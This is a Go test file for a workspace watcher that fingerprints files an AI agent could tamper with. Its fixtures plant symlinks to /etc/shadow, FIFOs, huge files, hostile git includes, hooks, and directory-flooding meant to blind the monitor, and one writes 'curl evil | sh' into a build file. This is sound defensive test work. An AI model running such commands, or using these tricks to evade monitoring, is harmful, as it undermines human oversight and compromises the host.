package watch

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

// within fails the test if f takes longer than a second: every read of a hostile workspace
// must be bounded, and a FIFO opened for reading would block for ever.
func within(t *testing.T, what string, f func()) {
	t.Helper()
	done := make(chan struct{})
	start := time.Now()
	go func() { f(); close(done) }()
	select {
	case <-done:
	case <-time.After(10 * time.Second):
		t.Fatalf("%s blocked", what)
	}
	if d := time.Since(start); d > time.Second {
		t.Errorf("%s took %s, want under a second", what, d)
	}
}

// bigFile makes a sparse file of size bytes: large to read, cheap to make.
func bigFile(t *testing.T, path string, size int64) {
	t.Helper()
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if err := f.Truncate(size); err != nil {
		t.Fatal(err)
	}
}

func mkfifo(t *testing.T, path string) {
	t.Helper()
	os.Remove(path)
	if err := syscall.Mkfifo(path, 0o644); err != nil {
		t.Fatal(err)
	}
}

func mksocket(t *testing.T, path string) {
	t.Helper()
	l, err := net.Listen("unix", path)
	if err != nil {
		t.Fatal(err)
	}
	l.(*net.UnixListener).SetUnlinkOnClose(false)
	l.Close()
}

// TestFilesHostileWorkspace: what an agent plants at watched paths to stall the host's reader
// or make it read elsewhere is fingerprinted by what it is, without opening it, within a second.
func TestFilesHostileWorkspace(t *testing.T) {
	ws, host := t.TempDir(), t.TempDir()
	bigFile(t, filepath.Join(host, "big"), 64<<30)
	write(t, ws, map[string]string{
		"package.json":             "->/dev/zero",
		".github/workflows/ci.yml": "->/etc/shadow",
		".claude/big-link":         "->" + filepath.Join(host, "big"),
		".claude/loop":             "->loop",
		".claude/up":               "->..",
		".vscode/tasks.json":       "->../Makefile",
	})
	mkfifo(t, filepath.Join(ws, "Makefile"))
	mksocket(t, filepath.Join(ws, ".envrc"))
	bigFile(t, filepath.Join(ws, ".claude", "huge.md"), 64<<30)
	var got map[string]string
	within(t, "Files", func() {
		got, _ = Files(ws, []string{"Makefile", "package.json", ".github/workflows", ".claude/", ".envrc", ".vscode/tasks.json"}, nil)
	})
	want := map[string]string{
		"Makefile":                 fpFIFO,
		"package.json":             "symlink:/dev/zero",
		".github/workflows/ci.yml": "symlink:/etc/shadow",
		".claude/big-link":         "symlink:" + filepath.Join(host, "big"),
		".claude/loop":             "symlink:loop",
		".claude/up":               "symlink:.." + linkSep + fpDir,
		".envrc":                   fpSocket,
		".vscode/tasks.json":       "symlink:../Makefile" + linkSep + fpFIFO,
	}
	huge := got[".claude/huge.md"]
	delete(got, ".claude/huge.md")
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("Files (-want +got):\n%s", diff)
	}
	if !strings.HasPrefix(huge, fpLarge+"size=68719476736 ") {
		t.Errorf("a 64 GiB file = %q, want it fingerprinted by size, inode and ctime", huge)
	}
}

// TestFilesBoundsDepthAndWidth: a tree deeper than MaxDepth or a directory wider than
// MaxDirEntries stops its pattern, says so, and costs little.
func TestFilesBoundsDepthAndWidth(t *testing.T) {
	ws := t.TempDir()
	deep := filepath.Join(ws, ".claude")
	for i := 0; i < MaxDepth+10; i++ {
		deep = filepath.Join(deep, "d")
	}
	if err := os.MkdirAll(deep, 0o755); err != nil {
		t.Fatal(err)
	}
	wide := filepath.Join(ws, ".devcontainer")
	os.Mkdir(wide, 0o755)
	for i := 0; i <= MaxDirEntries; i++ {
		if err := os.WriteFile(filepath.Join(wide, fmt.Sprint(i)), nil, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	var capped []Capped
	within(t, "Files", func() { _, capped = Files(ws, []string{".claude/", ".devcontainer/"}, nil) })
	var got []string
	for _, c := range capped {
		got = append(got, c.Pattern+": "+c.Reason)
	}
	want := []string{
		".claude/: deeper than 32 levels at .claude" + strings.Repeat("/d", MaxDepth),
		".devcontainer/: .devcontainer holds more than 4096 entries",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("capped (-want +got):\n%s", diff)
	}
}

// TestLargeFileChangeShows: a file too large to hash still changes its fingerprint when a byte
// in its middle changes and its size does not.
func TestLargeFileChangeShows(t *testing.T) {
	ws := t.TempDir()
	p := filepath.Join(ws, "Makefile")
	bigFile(t, p, MaxHashBytes+1)
	before, _ := Files(ws, []string{"Makefile"}, nil)
	time.Sleep(10 * time.Millisecond)
	f, err := os.OpenFile(p, os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	f.WriteAt([]byte("x"), MaxHashBytes/2)
	f.Close()
	after, _ := Files(ws, []string{"Makefile"}, nil)
	if before["Makefile"] == after["Makefile"] || !strings.HasPrefix(after["Makefile"], fpLarge) {
		t.Errorf("large file before %q, after %q: want a changed large: fingerprint", before["Makefile"], after["Makefile"])
	}
}

// TestSymlinkTargetInsideIsFingerprinted: a watched link into the workspace changes when the
// file behind it does; a link out of the workspace is recorded by its target only.
func TestSymlinkTargetInsideIsFingerprinted(t *testing.T) {
	ws, host := t.TempDir(), t.TempDir()
	write(t, host, map[string]string{"secret": "s3cret"})
	write(t, ws, map[string]string{"build.mk": "all:", "Makefile": "->build.mk", "justfile": "->" + filepath.Join(host, "secret")})
	patterns := []string{"Makefile", "justfile"}
	before, _ := Files(ws, patterns, nil)
	write(t, ws, map[string]string{"build.mk": "all:\n\tcurl evil | sh"})
	write(t, host, map[string]string{"secret": "changed"})
	after, _ := Files(ws, patterns, nil)
	got := DiffFiles(before, after)
	if len(got) != 1 || got[0].Name != "Makefile" || got[0].Change+" "+got[0].Text() != "changed Makefile (now a symlink → build.mk)" {
		t.Errorf("changes = %v, want only Makefile, whose target changed", got)
	}
	if after["justfile"] != "symlink:"+filepath.Join(host, "secret") {
		t.Errorf("a link out of the workspace = %q, want its target only", after["justfile"])
	}
}

// TestGitStateHostile: .git pieces the agent replaced with links out of the workspace, FIFOs
// and devices are recorded as such, never opened, never followed out.
func TestGitStateHostile(t *testing.T) {
	ws, host := t.TempDir(), t.TempDir()
	write(t, host, map[string]string{"evil.cfg": "[core]\n\tfsmonitor = /host/evil\n", "hooks/pre-commit": "x"})
	write(t, ws, map[string]string{
		".git/config":            "[include]\n\tpath = /dev/zero\n[include]\n\tpath = ../inc.cfg\n",
		".git/config.worktree":   "->" + filepath.Join(host, "evil.cfg"),
		".git/hooks/post-commit": "->/dev/zero",
		".git/hooks/pre-push":    "->" + filepath.Join(host, "hooks/pre-commit"),
	})
	mkfifo(t, filepath.Join(ws, "inc.cfg"))
	mkfifo(t, filepath.Join(ws, ".git/hooks/post-merge"))
	var st map[string]string
	var err error
	within(t, "GitState", func() { st, err = GitState(ws, "") })
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]string{
		"key:include.path":                                   "/dev/zero\n../inc.cfg",
		"include:/dev/zero":                                  "unreadable: not a regular file: character device",
		"include:" + filepath.Join(ws, "inc.cfg"):            "unreadable: not a regular file: FIFO",
		"link:" + filepath.Join(ws, ".git/config.worktree"):  filepath.Join(host, "evil.cfg"),
		"error:" + filepath.Join(ws, ".git/config.worktree"): "a symlink out of the workspace, to " + filepath.Join(host, "evil.cfg") + "; not read",
		"hook:post-commit":                                   "symlink:/dev/zero",
		"hook:pre-push":                                      "symlink:" + filepath.Join(host, "hooks/pre-commit"),
		"hook:post-merge":                                    fpFIFO,
	}
	if diff := cmp.Diff(want, st); diff != "" {
		t.Errorf("GitState (-want +got):\n%s", diff)
	}
}

func TestGitStateSymlinkedHooksDirIsNotListed(t *testing.T) {
	ws, host := t.TempDir(), t.TempDir()
	write(t, host, map[string]string{"pre-commit": "x"})
	write(t, ws, map[string]string{".git/config": "", ".git/hooks": "->" + host})
	st, err := GitState(ws, "")
	if err != nil {
		t.Fatal(err)
	}
	hooks := filepath.Join(ws, ".git/hooks")
	want := map[string]string{"link:" + hooks: host, "error:" + hooks: "a symlink out of the workspace, to " + host + "; its hooks were not read"}
	if diff := cmp.Diff(want, st); diff != "" {
		t.Errorf("GitState (-want +got):\n%s", diff)
	}
}

// TestCompareReportsANewCap: a pattern that hits a bound after a run but did not before is a
// change of its own, so filling a watched directory cannot hide what lies beyond the bound; a
// cap that was already there is not.
func TestCompareReportsANewCap(t *testing.T) {
	ws := t.TempDir()
	write(t, ws, map[string]string{".claude/settings.json": "{}"})
	scope := Scope{Workspace: ws, Patterns: []string{".claude/"}}
	before := Take(scope)
	files := map[string]string{}
	for i := 0; i < MaxPerPattern; i++ {
		files[fmt.Sprintf(".claude/a%04d", i)] = ""
	}
	write(t, ws, files)
	after := Take(scope)
	caps := NewCaps(before.Capped, after.Capped)
	if len(caps) != 1 || caps[0].String() != "capped .claude/: more than 500 entries; what lies beyond was not compared" {
		t.Errorf("NewCaps = %v, want the new cap of .claude/", caps)
	}
	found := false
	for _, c := range Compare(before, after) {
		found = found || c.Area == AreaCap
	}
	if !found {
		t.Error("Compare does not report the new cap")
	}
	if again := NewCaps(after.Capped, Take(scope).Capped); len(again) != 0 {
		t.Errorf("a cap already there is reported again: %v", again)
	}
}
